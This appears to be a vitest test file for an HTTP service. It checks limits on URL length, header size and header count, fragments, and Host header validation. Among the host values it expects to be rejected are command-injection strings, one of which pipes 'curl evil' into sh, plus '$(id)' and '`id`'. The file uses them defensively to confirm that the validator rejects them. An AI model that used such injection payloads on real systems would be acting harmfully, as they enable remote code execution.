import { once } from 'node:events'
import type { IncomingMessage } from 'node:http'
import type { ErrorDefinition } from '@qb/core/errors'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { HTTP_ERRORS } from '../problems/http-errors.ts'
import type { Service } from '../service.ts'
import { assertProblem, listenOnFreePort, makeService, openConnection } from '../testing.ts'
import {
  findHeadError,
  MAX_HEADER_BYTES,
  MAX_PARSED_BYTES,
  MAX_URL_BYTES,
  toHeadOverflowError,
} from './request-head.ts'

let app: Service
beforeAll(async () => {
  app = await makeService()
  await listenOnFreePort(app)
})
afterAll(() => app.close())

/**
 * Sends packets and returns the response. Each packet is sent once the service has read the previous packet.
 */
async function send(...packets: readonly string[]) {
  const { client, accepted, received } = await openConnection(app)
  const closed = once(client, 'close')
  client.on('end', () => client.end())
  let sent = 0
  for (const packet of packets) {
    client.write(packet)
    sent += packet.length
    if (packet !== packets.at(-1))
      await vi.waitFor(() => expect(accepted.bytesRead).toBeGreaterThanOrEqual(sent))
  }
  await closed
  const [head = '', body = ''] = received().split('\r\n\r\n', 2)
  return {
    status: Number(head.split(' ')[1]),
    contentType: /^content-type: (.*)$/m.exec(head)?.[1]?.trim(),
    body,
  }
}

const TAIL = ' HTTP/1.1\r\nhost: x\r\nconnection: close\r\n'
const split = (bytes: string, size: number) => bytes.match(new RegExp(`.{1,${size}}`, 'gs')) ?? []

describe('a request', () => {
  it.each([
    ['a URL of 20 KB in three packets', 414, split(`GET /${'x'.repeat(20_000)}${TAIL}\r\n`, 7000)],
    ['a URL of 60 KB in many packets', 414, split(`GET /${'x'.repeat(60_000)}${TAIL}\r\n`, 4000)],
    ['a URL of 200 KB', 414, [`GET /${'x'.repeat(200_000)}${TAIL}\r\n`]],
    ['a URL that is one byte too long', 414, [`GET /${'x'.repeat(MAX_URL_BYTES)}${TAIL}\r\n`]],
    ['the longest URL', 404, [`GET /${'x'.repeat(MAX_URL_BYTES - 1)}${TAIL}\r\n`]],
    // Besides x, there are 4 + 1 bytes of host and 10 + 5 bytes of connection.
    ['the largest header fields', 200, [`GET /${TAIL}x: ${'x'.repeat(MAX_HEADER_BYTES - 21)}\r\n\r\n`]],
    [
      'header fields that are one byte too large',
      431,
      [`GET /${TAIL}x: ${'x'.repeat(MAX_HEADER_BYTES - 20)}\r\n\r\n`],
    ],
    ['20 KB of header fields in packets', 431, split(`GET /${TAIL}x: ${'x'.repeat(20_000)}\r\n\r\n`, 7000)],
    [
      'a head that exceeds the limit of the parser',
      431,
      [`GET /${TAIL}x: ${'x'.repeat(MAX_PARSED_BYTES)}\r\n\r\n`],
    ],
    ['1,000 header fields', 431, [`GET /${TAIL}${'x: \r\n'.repeat(998)}\r\n`]],
    ['999 header fields', 200, [`GET /${TAIL}${'x: \r\n'.repeat(997)}\r\n`]],
    ['a fragment', 400, [`GET /#x${TAIL}\r\n`]],
    ['an empty fragment', 400, [`GET /#${TAIL}\r\n`]],
    ['a fragment after the query', 400, [`GET /?#${TAIL}\r\n`]],
    ['two hosts', 400, [`GET /${TAIL}Host: y\r\n\r\n`]],
    ['the same host twice', 400, [`GET /${TAIL}HOST: x\r\n\r\n`]],
    ['two hosts in HTTP/1.0', 400, ['GET / HTTP/1.0\r\nhost: x\r\nhost: x\r\n\r\n']],
    ['no host', 400, ['GET / HTTP/1.1\r\nconnection: close\r\n\r\n']],
    ['no host in HTTP/1.0', 200, ['GET / HTTP/1.0\r\n\r\n']],
  ])('with %s gets status %i', async (_name, status, packets) => {
    const response = await send(...packets)
    expect(response.status).toBe(status)
    const errors: Readonly<Record<number, ErrorDefinition>> = {
      400: HTTP_ERRORS.malformed_request,
      404: HTTP_ERRORS.unknown_route,
      414: HTTP_ERRORS.uri_too_long,
      431: HTTP_ERRORS.header_too_large,
    }
    const error = errors[status]
    if (error) assertProblem(response, error)
  })
})

describe('findHeadError', () => {
  const check = (fields: readonly string[], httpVersion = '1.1') =>
    findHeadError({ url: '/', httpVersion, rawHeaders: fields } as unknown as IncomingMessage)

  it.each([
    [[], 'expected one Host header field, got 0'],
    [['host', 'x', 'Host', 'x'], 'expected one Host header field, got 2'],
  ])('counts the Host header fields of %j', (fields, message) => {
    expect(check(fields)).toMatchObject({ definition: HTTP_ERRORS.malformed_request, message })
  })

  it.each([
    ['a name with the length of Host', ['host', 'x', 'from', 'y']],
    ['a name that contains Host', ['host', 'x', 'x-host', 'y', 'hosts', 'z']],
    ['a value that is Host', ['host', 'host']],
  ])('accepts %s', (_name, fields) => {
    expect(check(fields)).toBeUndefined()
  })

  it.each(['', 'x', 'localhost:8000', 'a_b.example.', '127.0.0.1:1', '[::1]', '[::ffff:1.2.3.4]:80', 'x:'])(
    'accepts the host %j',
    (host) => {
      expect(check(['host', host])).toBeUndefined()
    },
  )

  it.each([
    `x';curl evil|sh;'`,
    'x;y',
    'a b',
    'x/y',
    'u@x',
    'x?y',
    '$(id)',
    '`id`',
    '<b>',
    'x"',
    'x:80:90',
    '[x]',
    'é',
    '%41',
  ])('rejects the host %j', (host) => {
    const message = expect.stringContaining('Host: expected a host name')
    expect(check(['host', host])).toMatchObject({ definition: HTTP_ERRORS.malformed_request, message })
  })

  it('requires Host from HTTP/1.1 on', () => {
    expect(check([], '1.0')).toBeUndefined()
    expect(check(['host', 'x', 'host', 'x'], '1.0')).toMatchObject({
      definition: HTTP_ERRORS.malformed_request,
    })
  })
})

describe('toHeadOverflowError', () => {
  const HEAD = `GET ${'x'.repeat(MAX_URL_BYTES - 4)}`

  it.each([
    ['of a request line that is too long', `${HEAD}x\r\nhost: x\r\n`, HTTP_ERRORS.uri_too_long],
    ['of a request line without an end', `${HEAD}x`, HTTP_ERRORS.uri_too_long],
    [
      'of a request line that has the maximum length',
      `${HEAD}\r\nx: ${'y'.repeat(100)}`,
      HTTP_ERRORS.header_too_large,
    ],
    ['within a header field', 'y'.repeat(MAX_URL_BYTES), HTTP_ERRORS.header_too_large],
    ['of a header field that resembles a request line', `a: ${HEAD}x`, HTTP_ERRORS.header_too_large],
  ])('reports the packet %s', (_name, packet, definition) => {
    expect(toHeadOverflowError(Buffer.from(packet))).toMatchObject({ definition })
  })

  it('reports the header fields when the packet is unknown', () => {
    expect(toHeadOverflowError(undefined)).toMatchObject({ definition: HTTP_ERRORS.header_too_large })
  })

  it.each([
    [`at most ${MAX_URL_BYTES} bytes`, `${HEAD}x`],
    [`at most 999 header fields of at most ${MAX_HEADER_BYTES} bytes`, ''],
  ])('names the limit: %s', (fragment, packet) => {
    expect(toHeadOverflowError(Buffer.from(packet)).message).toContain(fragment)
  })
})
